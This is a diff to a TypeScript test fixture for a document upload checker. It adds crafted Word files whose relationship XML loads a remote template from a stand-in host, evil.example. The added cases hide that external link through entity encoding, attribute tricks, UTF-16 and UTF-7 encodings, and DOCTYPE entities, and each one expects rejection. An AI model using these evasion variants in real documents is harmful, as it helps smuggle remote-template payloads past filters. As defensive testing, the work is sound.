@@ -34,6 +34,8 @@ const macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
 const rels = (inside: string) => [{ name: "word/_rels/document.xml.rels", content: relations(inside) }];
 const external = (type: string) =>
   `<Relationship Id="r" Type="x/${type}" Target="https://evil.example/a" TargetMode="External"/>`;
+const template = (said: string) =>
+  `<Relationship Id="r" Type="x/attachedTemplate" Target="https://evil.example/a" ${said}/>`;
 const padded = (bytes: Buffer, length: number) => Buffer.concat([bytes, Buffer.alloc(length - bytes.length, 32)]);
 const csv = Buffer.from("name,figure\nLibraries,12\n");
 
@@ -130,6 +132,32 @@ export const tricks: readonly Trick[] = [
     () => anOfficeFile("docx", rels(external("attachedTemplate"))),
     "loads-from-elsewhere",
   ),
+  ...[
+    rels(template('TargetMode="Extern&#97;l"')),
+    rels(template('A=">" TargetMode="External"')),
+    rels(template('targetmode="Internal" TargetMode="External"')),
+    rels(external("attachedTemplate").replace("<R", "<o:R")),
+    [{ name: "word/_rels/settings.xml.RELS", content: relations(external("attachedTemplate")) }],
+    ...["\ufeff", ""].map((mark) => [inUtf16(mark + relations(external("attachedTemplate")))]),
+    rels("").map((one) => ({ ...one, content: one.content.replace("UTF-8", "UTF-7") })),
+    rels(template('TargetMode="&a;"')).map((one) => ({
+      ...one,
+      content: one.content.replace("?>", `?><!--${"x".repeat(5000)}--><!DOCTYPE a [<!ENTITY a "External">]>`),
+    })),
+  ].map((parts, way) =>
+    document(
+      `way ${way + 1} to hide a template elsewhere`,
+      "a.docx",
+      () => anOfficeFile("docx", parts),
+      "loads-from-elsewhere",
+    ),
+  ),
+  document(
+    "a Word file whose links are in UTF-16",
+    "a.docx",
+    () => anOfficeFile("docx", [inUtf16(`\ufeff${relations(external("hyperlink"))}`)]),
+    { kept: "a.docx" },
+  ),
   document(
     "a Word file with entities",
     "a.docx",
@@ -193,6 +221,11 @@ export const tricks: readonly Trick[] = [
   document("a table", "a.csv", () => csv, { kept: "a.csv" }),
   document("plain text", "a.txt", () => csv, "not-accepted"),
 ];
+
+function inUtf16(text: string) {
+  const content = Buffer.from(text.replace("UTF-8", "UTF-16"), "utf16le");
+  return { name: "word/_rels/document.xml.rels", content };
+}
 
 async function withComment(text: string): Promise<Buffer> {
   const jpeg = await aJpeg();
